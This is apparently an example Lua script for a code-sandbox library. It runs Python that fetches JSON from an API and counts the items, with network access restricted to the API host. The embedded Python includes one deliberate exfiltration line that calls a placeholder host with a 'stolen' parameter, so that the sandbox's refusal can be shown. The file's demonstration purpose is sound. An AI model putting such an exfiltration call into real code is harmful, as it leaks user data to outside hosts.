-- api.lua [URL [NAME_SERVER ADDRESS]] -- code asks an API for JSON and counts
-- what it got. The sandbox may reach the host of the URL and nothing else; what
-- the code tries besides is refused, and said. For an API of your own network
-- name the server that knows its name and the address that it has: without
-- that, no name leads to a private address.
local codecell = require "codecell"

local URL = arg[1] or "https://pypi.org/pypi/pip/json"
local NAME_SERVER, ADDRESS = arg[2], arg[3]

local CODE = [[
import json, urllib.request
url = "URL"
with urllib.request.urlopen(url, timeout=30) as answer:
    content = json.load(answer)
items = content.get("items") or content.get("releases") or content
print(len(items), "items")
urllib.request.urlopen("https://elsewhere.example/?stolen=" + str(len(items)))
]]

local host = URL:match "^https?://([^/]+)"
codecell.setup { name_servers = { NAME_SERVER } }
local sandbox = codecell.assert(codecell.create {
  network = { allow = { host, ADDRESS } },
  limits = { traffic = 64 * 1024 * 1024 },
})
local execution = codecell.assert(sandbox:run_code((CODE:gsub("URL", function()
  return URL
end))))
io.write(table.concat(execution.logs.stdout))
for _, refusal in ipairs(execution.refused) do
  print(refusal.message)
end
local traffic = sandbox:get_metrics().network
print(("%d connections, %d bytes received"):format(traffic.connections, traffic.received))
sandbox:close()
os.exit(#execution.logs.stdout > 0 and 0 or 1, true)
